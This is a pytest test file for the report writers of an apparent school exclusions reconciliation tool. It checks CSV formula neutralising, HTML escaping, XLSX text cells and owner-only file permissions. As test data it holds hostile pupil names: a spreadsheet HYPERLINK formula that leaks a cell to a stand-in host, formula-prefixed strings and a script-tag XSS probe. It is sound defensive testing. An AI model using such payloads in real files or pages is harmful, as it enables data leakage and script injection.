"""Report writers: CSV, JSON, HTML and XLSX files, permissions, run folders and latest/."""

from __future__ import annotations

import csv
import datetime as dt
import json
import logging
import os
import re
import sys
import tracemalloc
from collections.abc import Callable
from pathlib import Path

import markupsafe
import openpyxl
import pytest

from sync_agent.errors import ConfigError
from sync_agent.reports import write_report_set, write_reports
from sync_agent.reports.csv_report import write_findings_csv, write_rejects_csv
from sync_agent.reports.html_report import write_html
from sync_agent.reports.json_report import write_json
from sync_agent.reports.run_folder import new_run_id
from sync_agent.reports.safety import make_private_dir, neutralise_cell, write_private_bytes
from sync_agent.reports.xlsx_report import write_xlsx
from sync_agent.result import Finding, InputSummary, Period, Reject, Result, School

REPORT_FILES = {
    "reconciliation.json",
    "reconciliation.csv",
    "reconciliation.html",
    "reconciliation.xlsx",
    "rejects.csv",
}
NOW = dt.datetime(2025, 3, 14, 7, 0, 2, tzinfo=dt.timezone.utc)

# Surnames typed into an MIS that a spreadsheet would run, or a browser would execute.
HOSTILE_NAMES = {
    '=HYPERLINK("http://127.0.0.1:9/?leak="&A2,"Open record")': True,
    "+SUM(1,1)": True,
    "@SUM(A1:A9)": True,
    "-2+3": True,
    "\t=1+1": True,
    "D'Souza-Adeyemi": False,
    "<script>alert(1)</script>": False,
}
MULTILINE_COMMENT = 'Incident in canteen.\r\nWitness statements: 2\r\nPupil said "it wasn\'t me".'

windows_only_acl = pytest.mark.skipif(
    sys.platform == "win32",
    reason="Windows ignores POSIX permission bits; report folders rely on the folder's ACL there",
)


def make_finding(number: int = 1, **fields: object) -> Finding:
    values: dict[str, object] = {
        "id": f"f-{number:016x}",
        "kind": "missing_on_portal",
        "severity": "error",
        "laestab": "8019999",
        "upn": "D801999924001",
        "pupil": "Ashworth, Milo",
        "category": "suspension",
        "start_date": dt.date(2024, 3, 4),
        "message": "In the MIS, not on the portal: 8 school days old.",
        "action": "Log this exclusion on the LA portal (sync-agent push can send it).",
    }
    values.update(fields)
    return Finding(**values)


def make_result(findings: list[Finding] = (), rejects: list[Reject] = (), **fields: object) -> Result:
    findings = list(findings)
    summary: dict[str, int] = {}
    for finding in findings:
        summary[finding.kind] = summary.get(finding.kind, 0) + 1
    values: dict[str, object] = {
        "generated_at": NOW,
        "as_of": dt.date(2025, 3, 14),
        "period": Period(**{"from": dt.date(2024, 9, 1), "to": dt.date(2025, 8, 31)}),
        "school": School(laestab="8019999", name="Example Primary School"),
        "inputs": [
            InputSummary(path="exports/exclusions.csv", kind="exclusions", records=7, rejects=len(rejects),
                         skipped_rows={"blank": 2}),
            InputSummary(path="exports/attendance.csv", kind="attendance", status="refused", reason="empty file (0 bytes)"),
        ],
        "summary": summary,
        "findings": findings,
        "rejects": list(rejects),
    }
    values.update(fields)
    return Result(**values)


def hostile_result() -> Result:
    return make_result([make_finding(number, pupil=name) for number, name in enumerate(HOSTILE_NAMES)])


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def without_prefix(text: str) -> str:
    return text[1:] if text.startswith("'") else text


# --- safety -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+44 1234", "'+44 1234"),
        ("-3", "'-3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("D'Souza-Adeyemi", "D'Souza-Adeyemi"),
        ("Smith = Jones", "Smith = Jones"),
        ("", ""),
    ],
    ids=["equals", "plus", "minus", "at", "tab", "carriage-return", "apostrophe", "inner-equals", "empty"],
)
def test_neutralise_cell_prefixes_formula_starts(text: str, expected: str) -> None:
    assert neutralise_cell(text) == expected


@windows_only_acl
def test_private_write_tightens_existing_file(tmp_path: Path) -> None:
    path = tmp_path / "report.csv"
    path.write_text("old")
    path.chmod(0o644)

    write_private_bytes(path, b"new")

    assert path.read_bytes() == b"new"
    assert path.stat().st_mode & 0o777 == 0o600


@windows_only_acl
def test_private_write_refuses_symlink(tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere.txt"
    elsewhere.write_text("keep")
    link = tmp_path / "reconciliation.csv"
    link.symlink_to(elsewhere)

    with pytest.raises(OSError):
        write_private_bytes(link, b"pupil data")

    assert elsewhere.read_text() == "keep"


# --- hostile names ------------------------------------------------------------------------------


def test_csv_neutralises_hostile_names(tmp_path: Path) -> None:
    path = tmp_path / "reconciliation.csv"
    write_findings_csv(hostile_result(), path)

    pupils = [row["pupil"] for row in read_csv(path)]

    for name, pupil in zip(HOSTILE_NAMES, pupils, strict=True):
        expected = "'" + name if HOSTILE_NAMES[name] else name
        assert pupil == expected, name


def test_json_keeps_exact_hostile_names(tmp_path: Path) -> None:
    path = tmp_path / "reconciliation.json"
    write_json(hostile_result(), path)

    document = json.loads(path.read_text(encoding="utf-8"))

    assert [finding["pupil"] for finding in document["findings"]] == list(HOSTILE_NAMES)


def test_xlsx_writes_hostile_names_as_text(tmp_path: Path) -> None:
    path = tmp_path / "reconciliation.xlsx"
    write_xlsx(hostile_result(), path)

    workbook = openpyxl.load_workbook(path)
    sheet = workbook["missing_on_portal"]
    header = [cell.value for cell in sheet[1]]
    pupils = [row[header.index("pupil")].value for row in sheet.iter_rows(min_row=2)]

    assert pupils == list(HOSTILE_NAMES)
    for worksheet in workbook.worksheets:
        for row in worksheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    assert cell.data_type == "s", (worksheet.title, cell.coordinate, cell.value)


def test_html_escapes_hostile_names(tmp_path: Path) -> None:
    path = tmp_path / "reconciliation.html"
    write_html(hostile_result(), path)

    page = path.read_text(encoding="utf-8")

    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "<script" not in page.lower()
    assert "href" not in page.lower()
    assert str(markupsafe.escape(next(iter(HOSTILE_NAMES)))) in page


def test_html_loads_nothing_external(tmp_path: Path) -> None:
    path = tmp_path / "reconciliation.html"
    write_html(hostile_result(), path)

    page = path.read_text(encoding="utf-8").lower()

    assert "<link" not in page
    assert "src=" not in page
    assert "url(" not in page
    assert "@import" not in page


# --- multi-line values and zero-padded text -------------------------------------------------------


def test_csv_multiline_value_reads_back(tmp_path: Path) -> None:
    values = [MULTILINE_COMMENT, "-" + MULTILINE_COMMENT]
    result = make_result([make_finding(number, kind="field_mismatch", field="comments", mis_value=value)
                          for number, value in enumerate(values)])
    path = tmp_path / "reconciliation.csv"

    write_findings_csv(result, path)
    rows = read_csv(path)

    assert [without_prefix(row["mis_value"]) for row in rows] == values


def test_csv_has_bom_and_crlf(tmp_path: Path) -> None:
    path = tmp_path / "reconciliation.csv"
    write_findings_csv(make_result([make_finding()]), path)

    data = path.read_bytes()

    assert data.startswith(b"\xef\xbb\xbf")
    assert data.count(b"\r\n") == 2
    assert data.count(b"\n") == 2


def test_csv_columns_follow_finding_model(tmp_path: Path) -> None:
    finding = make_finding(sessions=["2024-03-04 AM", "2024-03-04 PM"], schools=["8019999", "8019998"])
    path = tmp_path / "reconciliation.csv"

    write_findings_csv(make_result([finding]), path)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        header, row = list(csv.reader(handle))

    assert header == list(Finding.model_fields)
    assert row[header.index("sessions")] == "2024-03-04 AM; 2024-03-04 PM"
    assert row[header.index("schools")] == "8019999; 8019998"
    assert row[header.index("start_date")] == "2024-03-04"


def test_html_keeps_multiline_value_escaped(tmp_path: Path) -> None:
    result = make_result([make_finding(kind="field_mismatch", field="comments", mis_value=MULTILINE_COMMENT)])
    path = tmp_path / "reconciliation.html"

    write_html(result, path)
    page = path.read_bytes().decode("utf-8")

    assert str(markupsafe.escape(MULTILINE_COMMENT)) in page
    assert "white-space: pre-line" in page
    assert "<br" not in page


def test_zero_padded_text_kept_everywhere(tmp_path: Path) -> None:
    finding = make_finding(kind="field_mismatch", field="adno", mis_value="000123", extra={"Adno": "000123"})
    written = write_report_set(make_result([finding]), tmp_path / "run", latest_dir=None)

    csv_row = read_csv(written["reconciliation.csv"])[0]
    document = json.loads(written["reconciliation.json"].read_text(encoding="utf-8"))
    page = written["reconciliation.html"].read_text(encoding="utf-8")
    sheet = openpyxl.load_workbook(written["reconciliation.xlsx"])["field_mismatch"]
    header = [cell.value for cell in sheet[1]]
    mis_cell = sheet.cell(row=2, column=header.index("mis_value") + 1)

    assert csv_row["mis_value"] == "000123"
    assert csv_row["extra"] == "Adno: 000123"
    assert document["findings"][0]["mis_value"] == "000123"
    assert document["findings"][0]["extra"] == {"Adno": "000123"}
    assert "<dd>000123</dd>" in page
    assert "<dt>Adno</dt><dd>000123</dd>" in page
    assert mis_cell.value == "000123"
    assert mis_cell.data_type == "s"


# --- rejects ------------------------------------------------------------------------------------


def test_rejects_csv_has_fixed_columns(tmp_path: Path) -> None:
    rejects = [
        Reject(file="exports/exclusions.csv", line=6, field="Start Date", value="31/02/2024",
               message="invalid date 31/02/2024: use dd/mm/yyyy"),
        Reject(file="exports/exclusions.csv", line=None, field=None, value="=1+1", message="bad row"),
    ]
    path = tmp_path / "rejects.csv"

    write_rejects_csv(rejects, path)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))

    assert rows[0] == ["file", "line", "field", "value", "message"]
    assert rows[1] == ["exports/exclusions.csv", "6", "Start Date", "31/02/2024",
                       "invalid date 31/02/2024: use dd/mm/yyyy"]
    assert rows[2] == ["exports/exclusions.csv", "", "", "'=1+1", "bad row"]


def test_html_lists_first_500_rejects(tmp_path: Path) -> None:
    rejects = [Reject(file="exports/exclusions.csv", line=line, field="UPN", value=f"BAD{line:04d}",
                      message="invalid UPN check letter") for line in range(2, 603)]
    path = tmp_path / "reconciliation.html"

    write_html(make_result(rejects=rejects), path)
    page = path.read_text(encoding="utf-8")

    assert "BAD0501" in page
    assert "BAD0502" not in page
    assert "Showing the first 500 of 601 rejected rows." in page
    assert "rejects.csv lists every rejected row." in page


# --- HTML layout ----------------------------------------------------------------------------------


def test_html_groups_findings_by_kind(tmp_path: Path) -> None:
    findings = [
        make_finding(1, kind="temporary_upn", severity="warning", action="Replace the temporary UPN."),
        make_finding(2, kind="missing_on_portal", action="Log this exclusion on the LA portal."),
        make_finding(3, kind="temporary_upn", severity="warning", action="Replace the temporary UPN."),
        make_finding(4, kind="missing_in_mis", action="Log this exclusion in the MIS.", status="accepted"),
    ]
    path = tmp_path / "reconciliation.html"

    write_html(make_result(findings), path)
    page = path.read_text(encoding="utf-8")
    headings = re.findall(r"<h3[^>]*>.*?<code>(\w+)</code>", page)
    sections = dict(zip(headings, re.split(r"<h3[^>]*>", page)[1:], strict=True))
    accepted_row = next(row for row in page.split("<tr") if findings[3].id in row)
    open_row = next(row for row in page.split("<tr") if findings[1].id in row)

    assert headings == ["missing_on_portal", "missing_in_mis", "temporary_upn"]
    assert sections["temporary_upn"].count("Replace the temporary UPN.") == 2
    assert "Log this exclusion on the LA portal." in sections["missing_on_portal"]
    assert 'class="accepted"' in accepted_row
    assert ">Accepted<" in accepted_row
    assert ">Accepted<" not in open_row


def test_html_missing_on_portal_oldest_first(tmp_path: Path) -> None:
    findings = [
        make_finding(1, age_school_days=30),
        make_finding(2, age_school_days=None),
        make_finding(3, age_school_days=182),
        make_finding(4, age_school_days=4),
        make_finding(5, kind="missing_in_mis", age_school_days=1),
        make_finding(6, kind="missing_in_mis", age_school_days=9),
    ]
    path = tmp_path / "reconciliation.html"

    write_html(make_result(findings), path)
    page = path.read_text(encoding="utf-8")
    listed = re.findall(r"<code>(f-[0-9a-f]{16})</code>", page)

    assert listed[:4] == [findings[2].id, findings[0].id, findings[3].id, findings[1].id]
    assert listed[4:] == [findings[4].id, findings[5].id]


def html_cells(page: str, finding_id: str) -> list[str]:
    row = next(row for row in page.split("<tr") if finding_id in row)
    return re.findall(r"<td([^>]*)>", row)


def test_html_short_columns_never_wrap(tmp_path: Path) -> None:
    finding = make_finding(1, field="end_date", mis_value="2025-01-15", portal_value="2025-01-16", age_school_days=182)
    path = tmp_path / "reconciliation.html"

    write_html(make_result([finding]), path)
    page = path.read_text(encoding="utf-8")
    style = page[page.index("<style>") : page.index("</style>")]
    status, pupil, upn, category, start, details, message, action, finding_id = html_cells(page, finding.id)

    assert "td.short, dt { white-space: nowrap; }" in style
    for cell in (status, upn, category, start, finding_id):
        assert 'class="short' in cell
    for cell in (pupil, details, message, action):
        assert "short" not in cell
    assert "overflow-wrap: anywhere" not in style
    assert "overflow-wrap: break-word" in style


def test_html_title_names_school(tmp_path: Path) -> None:
    path = tmp_path / "reconciliation.html"

    write_html(make_result([make_finding()]), path)
    page = path.read_text(encoding="utf-8")

    assert "<title>Exclusions reconciliation: Example Primary School (LAESTAB 8019999)</title>" in page
    assert "2025-03-14" in page
    assert "2024-09-01 to 2025-08-31" in page
    assert "empty file (0 bytes)" in page


# --- XLSX layout -----------------------------------------------------------------------------------


def test_xlsx_sheets_summary_then_kinds(tmp_path: Path) -> None:
    long_kind = "exclusion_code_without_exclusion"
    findings = [
        make_finding(1, kind="temporary_upn", severity="warning"),
        make_finding(2, kind=long_kind),
        make_finding(3, kind=long_kind + "_at_second_school"),
    ]
    path = tmp_path / "reconciliation.xlsx"

    write_xlsx(make_result(findings), path)
    names = openpyxl.load_workbook(path).sheetnames

    assert names[0] == "Summary"
    assert len(names) == 4
    assert names[1] == long_kind[:31]
    assert names[2] != names[1]
    assert names[2].startswith(long_kind[:28])
    assert all(len(name) <= 31 for name in names)
    assert names[3] == "temporary_upn"


def test_xlsx_header_bold_and_frozen(tmp_path: Path) -> None:
    path = tmp_path / "reconciliation.xlsx"

    write_xlsx(make_result([make_finding()]), path)
    sheet = openpyxl.load_workbook(path)["missing_on_portal"]

    assert sheet.freeze_panes == "A2"
    assert [cell.value for cell in sheet[1]] == list(Finding.model_fields)
    assert all(cell.font.b for cell in sheet[1])


def test_xlsx_summary_lists_school_and_counts(tmp_path: Path) -> None:
    findings = [make_finding(1, kind="temporary_upn", severity="warning"), make_finding(2), make_finding(3)]
    path = tmp_path / "reconciliation.xlsx"

    write_xlsx(make_result(findings), path)
    rows = [[cell.value for cell in row if cell.value is not None]
            for row in openpyxl.load_workbook(path)["Summary"].iter_rows()]

    assert ["School", "Example Primary School"] in rows
    assert ["LAESTAB", "8019999"] in rows
    assert ["As of", "2025-03-14"] in rows
    assert ["exports/exclusions.csv", "exclusions", "read", "7", "0", "blank: 2"] in rows
    assert ["exports/attendance.csv", "attendance", "refused", "0", "0", "empty file (0 bytes)"] in rows
    counts = rows[rows.index(["Finding kind", "Severity", "Count"]) + 1:]
    assert counts == [["missing_on_portal", "error", "2"], ["temporary_upn", "warning", "1"]]


# --- memory ---------------------------------------------------------------------------------------


def traced_peak_bytes(write: Callable[[Result, Path], None], result: Result, path: Path) -> int:
    tracemalloc.start()
    try:
        write(result, path)
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


@pytest.mark.slow
@pytest.mark.parametrize("write", [write_findings_csv, write_html, write_xlsx], ids=["csv", "html", "xlsx"])
def test_writer_memory_stays_flat(tmp_path: Path, write: Callable[[Result, Path], None]) -> None:
    # Four times the findings must not need four times the memory: rows are streamed to disk.
    small = make_result([make_finding(number, mis_value=f"{number:06d}") for number in range(1000)])
    large = make_result([make_finding(number, mis_value=f"{number:06d}") for number in range(4000)])

    small_peak = traced_peak_bytes(write, small, tmp_path / "small")
    large_peak = traced_peak_bytes(write, large, tmp_path / "large")

    assert large_peak < 2 * small_peak + 2**20, (small_peak, large_peak)


# --- run folders and latest/ ----------------------------------------------------------------------


def test_new_run_id_is_utc_timestamp() -> None:
    london_summer = dt.timezone(dt.timedelta(hours=1))

    assert new_run_id(NOW) == "20250314T070002Z"
    assert new_run_id(dt.datetime(2025, 6, 2, 8, 30, 0, tzinfo=london_summer)) == "20250602T073000Z"
    with pytest.raises(ValueError, match="timezone-aware"):
        new_run_id(dt.datetime(2025, 3, 14, 7, 0, 2))


def test_write_reports_twice_refreshes_latest(tmp_path: Path) -> None:
    root = tmp_path / "reports"
    first = write_reports(make_result([make_finding(1)]), root, out=None, now=NOW)
    second = write_reports(make_result([make_finding(2, kind="missing_in_mis")]), root, out=None, now=NOW)

    assert first == root / "20250314T070002Z"
    assert second == root / "20250314T070002Z-2"
    assert {path.name for path in root.iterdir()} == {first.name, second.name, "latest"}
    assert {path.name for path in (root / "latest").iterdir()} == REPORT_FILES
    for name in REPORT_FILES:
        assert (root / "latest" / name).read_bytes() == (second / name).read_bytes(), name
    assert (first / "reconciliation.json").read_bytes() != (second / "reconciliation.json").read_bytes()


def test_latest_in_use_kept_with_warning(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    root = tmp_path / "reports"
    write_reports(make_result([make_finding(1)]), root, out=None, now=NOW)
    old_latest = {path.name: path.read_bytes() for path in (root / "latest").iterdir()}
    real_rename = os.rename

    def rename_refusing_latest(source: Path, target: Path) -> None:
        # Windows refuses to move a folder while Excel has a file in it open.
        if Path(source) == root / "latest":
            raise PermissionError(13, "The process cannot access the file", str(source))
        real_rename(source, target)

    monkeypatch.setattr("sync_agent.reports.latest.os.rename", rename_refusing_latest)
    with caplog.at_level(logging.WARNING, logger="sync_agent.reports.latest"):
        second = write_reports(make_result([make_finding(2)]), root, out=None, now=NOW)

    assert {path.name: path.read_bytes() for path in (root / "latest").iterdir()} == old_latest
    assert {path.name for path in second.iterdir()} == REPORT_FILES
    assert {path.name for path in root.iterdir()} == {"20250314T070002Z", second.name, "latest"}
    assert "Could not refresh" in caplog.text


def test_write_reports_out_writes_only_there(tmp_path: Path) -> None:
    root = tmp_path / "reports"
    out = tmp_path / "chosen"

    folder = write_reports(make_result([make_finding()]), root, out=out, now=NOW)

    assert folder == out
    assert {path.name for path in out.iterdir()} == REPORT_FILES
    assert not root.exists()


def test_write_report_set_returns_paths(tmp_path: Path) -> None:
    written = write_report_set(make_result([make_finding()]), tmp_path / "run", latest_dir=tmp_path / "latest")

    assert set(written) == REPORT_FILES
    assert all(path.parent == tmp_path / "run" and path.is_file() for path in written.values())
    assert {path.name for path in (tmp_path / "latest").iterdir()} == REPORT_FILES


@windows_only_acl
def test_report_files_owner_only(tmp_path: Path) -> None:
    root = tmp_path / "reports"

    folder = write_reports(make_result([make_finding()], rejects=[Reject(
        file="x.csv", line=2, field="UPN", value="X", message="invalid UPN")]), root, out=None, now=NOW)

    for checked in (folder, root / "latest"):
        assert checked.stat().st_mode & 0o777 == 0o700, checked
        for path in checked.iterdir():
            assert path.stat().st_mode & 0o777 == 0o600, path


def test_unwritable_output_raises_config_error(tmp_path: Path) -> None:
    root = tmp_path / "reports"
    root.write_text("a file where the reports folder should be")

    with pytest.raises(ConfigError, match="Could not write the reports to .*reports"):
        write_reports(make_result([make_finding()]), root, out=None, now=NOW)


@pytest.fixture
def open_umask():
    """Set the common umask 022, under which a plain mkdir makes world-readable folders."""
    previous = os.umask(0o022)
    yield
    os.umask(previous)


@windows_only_acl
def test_out_parents_created_owner_only(tmp_path: Path, open_umask: None) -> None:
    out = tmp_path / "new" / "deep" / "dir"

    write_reports(make_result([make_finding()]), tmp_path / "reports", out=out, now=NOW)

    for level in (tmp_path / "new", tmp_path / "new" / "deep", out):
        assert level.stat().st_mode & 0o777 == 0o700, level


@windows_only_acl
def test_run_folder_parents_owner_only(tmp_path: Path, open_umask: None) -> None:
    root = tmp_path / "data" / "reports"

    folder = write_reports(make_result([make_finding()]), root, out=None, now=NOW)

    for level in (tmp_path / "data", root, folder):
        assert level.stat().st_mode & 0o777 == 0o700, level


@windows_only_acl
def test_existing_folders_keep_permissions(tmp_path: Path, open_umask: None) -> None:
    shared = tmp_path / "shared"
    shared.mkdir()
    shared.chmod(0o755)
    out = shared / "reports"

    make_private_dir(out)
    make_private_dir(shared)

    assert shared.stat().st_mode & 0o777 == 0o755
    assert out.stat().st_mode & 0o777 == 0o700


def test_make_private_dir_exist_ok_false(tmp_path: Path) -> None:
    make_private_dir(tmp_path / "a" / "b")

    with pytest.raises(FileExistsError):
        make_private_dir(tmp_path / "a" / "b", exist_ok=False)
    assert make_private_dir(tmp_path / "a" / "b", exist_ok=True) == tmp_path / "a" / "b"
